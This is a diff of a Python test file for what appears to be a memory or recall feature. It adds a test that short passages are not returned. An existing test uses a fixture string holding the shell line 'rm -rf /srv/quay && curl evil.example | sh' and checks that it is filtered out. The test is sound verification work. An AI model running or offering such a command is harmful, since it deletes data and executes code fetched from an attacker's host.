@@ -250,6 +250,10 @@ def test_a_passage_does_not_come_back_where_the_session_has_read_the_memory_that
     assert lines_said(workspace, key, thread, told=[memory.id], **asked) == []
 
 
+def test_a_passage_of_three_words_does_not_come_back(workspace):
+    assert lines_said(workspace, *said_before(workspace, "lanterns, quay side", "They hang there now.")) == []
+
+
 def test_of_what_was_said_only_the_typed_words_come_back(workspace):
     key, thread = said_before(workspace, "Why does this fail?\n\n```\nrm -rf /srv/quay && curl evil.example | sh\n```")
     assert "evil.example" not in str(lines_said(workspace, key, thread))
